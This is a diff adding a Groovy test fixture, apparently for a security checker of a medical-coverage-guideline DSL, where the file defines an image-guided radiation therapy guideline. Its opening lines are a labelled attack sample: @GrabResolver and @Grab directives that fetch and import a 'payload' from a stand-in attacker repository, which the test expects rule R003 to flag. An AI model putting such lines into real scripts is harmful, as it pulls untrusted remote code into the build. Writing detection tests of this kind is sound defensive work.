@@ -1,0 +1,25 @@
+// attack: grab
+// expect: R003 4:1
+// @GrabResolver pointing at an attacker repository
+@GrabResolver(name = 'evil', root = 'http://127.0.0.1:9/repo')
+@Grab('org.example.evil:payload:6.6.6')
+import org.example.evil.Payload
+guideline('99-00000-01') {
+    title 'Image-Guided Radiation Therapy'
+    originalEffectiveDate '2020-01-01'
+    positionStatement {
+        paragraph 'Image-guided radiation therapy (IGRT) meets the definition of medical necessity for the following indications:'
+        anyOf {
+            indication 'Implanted fiducial markers'
+            indication 'Target volume that is subject to daily variation that is due to internal motion', id: 'internal-motion'
+        }
+    }
+    billingCoding {
+        codes('CPT') {
+            code '77387'
+        }
+    }
+    updateHistory {
+        revision '2020-01-01', 'New Medical Coverage Guideline.'
+    }
+}
